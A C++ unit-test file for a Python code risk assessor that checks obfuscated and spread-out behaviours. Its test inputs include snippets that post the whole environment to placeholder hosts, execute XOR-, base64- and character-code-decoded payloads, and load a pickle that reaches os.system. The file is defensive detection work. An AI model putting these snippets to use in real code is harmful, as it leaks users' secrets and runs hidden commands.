// Value flow that spreads a behaviour over functions and variables (issue 13, round 3): what
// a local function returns, tuple items, `for k in os.environ`, Python 2 statements and XOR
// decoding. Each case pairs the hidden form with an honest look-alike that must stay lower.
#include <gtest/gtest.h>

#include "assess_fixture.hpp"
#include "sandboxrun/assess.hpp"

using namespace sandboxrun;

namespace {

using assess_fixture::level;

}  // namespace

TEST(AssessFlow, ReturnedPayloadKeepsItsKind) {
  // A command decoded in one function and run in another is still a decoded command.
  EXPECT_EQ(level("import os\nCODES = [105, 100]\ndef name():\n    return ''.join(map(chr, CODES))\n"
                  "os.system(name())\n"),
            RiskLevel::blocked);
  // Fragments returned by two functions and executed together.
  EXPECT_EQ(level("def a():\n    return \"__imp\" + \"ort__('o\"\ndef b():\n    return \"s').sys\" + \"tem('id')\"\n"
                  "exec(a() + b())\n"),
            RiskLevel::blocked);
  // A plain constant from a function is just a constant command.
  EXPECT_EQ(level("import subprocess\ndef cmd():\n    return 'git'\nsubprocess.run([cmd(), 'status'])\n"),
            RiskLevel::medium);
}

TEST(AssessFlow, TupleItemsAndUnpacking) {
  EXPECT_EQ(level("import socketserver\nHOST, PORT = '', 9000\n"
                  "socketserver.TCPServer((HOST, PORT), socketserver.BaseRequestHandler).serve_forever()\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import socket\nADDR = ('', 5140)\ns = socket.socket()\ns.bind(ADDR)\n"), RiskLevel::high);
  EXPECT_EQ(level("import socketserver\nHOST, PORT = '127.0.0.1', 9000\n"
                  "socketserver.TCPServer((HOST, PORT), socketserver.BaseRequestHandler).serve_forever()\n"),
            RiskLevel::medium);
}

TEST(AssessFlow, IteratingTheEnvironmentCollectsIt) {
  EXPECT_EQ(level("import os, requests\nd = {}\nfor k in os.environ:\n    d[k] = os.environ[k]\n"
                  "requests.post('https://hooks.example.net/x', json=d)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import os, requests\nfor k in ['LANG', 'TZ']:\n    print(os.environ.get(k))\n"
                  "requests.post('https://metrics.example.net/x', json={'n': 1})\n"),
            RiskLevel::medium);
}

TEST(AssessFlow, PythonTwoStatements) {
  // `exec code` with a name after it is still an exec; Python 2 code with a network client
  // cannot run as Python 3 and is refused.
  EXPECT_EQ(level("import base64\nB = 'aW1wb3J0IG9z'\nexec base64.b64decode(B)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import urllib2\nprint 'fetching'\nurllib2.urlopen('http://example.com').read()\n"),
            RiskLevel::blocked);
  // A harmless Python 2 print script stays LOW.
  EXPECT_EQ(level("print 'hello'\nx = 1\nprint x\n"), RiskLevel::low);
}

TEST(AssessFlow, XorDecodedCodeIsExecutedPayload) {
  EXPECT_EQ(level("K = 7\nD = [1, 2, 3]\ndef u(d):\n    return bytes(b ^ K for b in d).decode()\nexec(u(D))\n"),
            RiskLevel::blocked);
  // XOR of bytes without any exec is a checksum.
  EXPECT_EQ(level("import sys\ndata = open(sys.argv[1], 'rb').read()\nprint(bytes(b ^ 0x55 for b in data)[:4])\n"),
            RiskLevel::low);
}

TEST(AssessFlow, EnvironmentCopiesSentOutButNotHandedToChildren) {
  // A dict literal that unpacks the environment is a copy of it, wherever the name goes.
  EXPECT_EQ(level("import os, requests\nsnap = {**os.environ}\nrequests.post('https://c.example.net', json=snap)\n"),
            RiskLevel::blocked);
  // A copy given to a child process (env=) sends nothing out, even beside a network client.
  EXPECT_EQ(level("import os, subprocess, requests\nsubprocess.run(['make'], env={**os.environ, 'CI': '1'})\n"
                  "env = os.environ.copy()\nsubprocess.run(['make'], env=env)\n"
                  "requests.get('https://status.example.com/ping')\n"),
            RiskLevel::medium);
}

TEST(AssessFlow, PythonTwoExceptClause) {
  EXPECT_EQ(level("import socket, os\ntry:\n    socket.create_connection(('203.0.113.1', 80))\n"
                  "except socket.error, e:\n    pass\n"),
            RiskLevel::blocked);
  // Python 3's bracketed form is not Python 2.
  EXPECT_EQ(level("import socket\ntry:\n    socket.create_connection(('example.com', 80))\n"
                  "except (OSError, ValueError) as e:\n    pass\n"),
            RiskLevel::medium);
}

TEST(AssessFlow, CharacterCodesAndMethodcaller) {
  // bytes() of a literal list of codes is text spelled in numbers: executed, it is a payload.
  EXPECT_EQ(level("code = bytes([112, 114, 105, 110, 116, 40, 49, 41])\nexec(code)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("hdr = bytes([0x89, 0x50, 0x4E, 0x47])\nprint(hdr)\n"), RiskLevel::low);
  // A pickle that arrives base64-encoded runs whatever it encodes when loaded.
  EXPECT_EQ(level("import pickle, base64\npickle.loads(base64.b64decode('gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU'))\n"),
            RiskLevel::blocked);
  // os.system reached through operator.methodcaller is still a shell.
  EXPECT_GE(level("import operator, os\noperator.methodcaller('system', 'id')(os)\n"), RiskLevel::high);
}
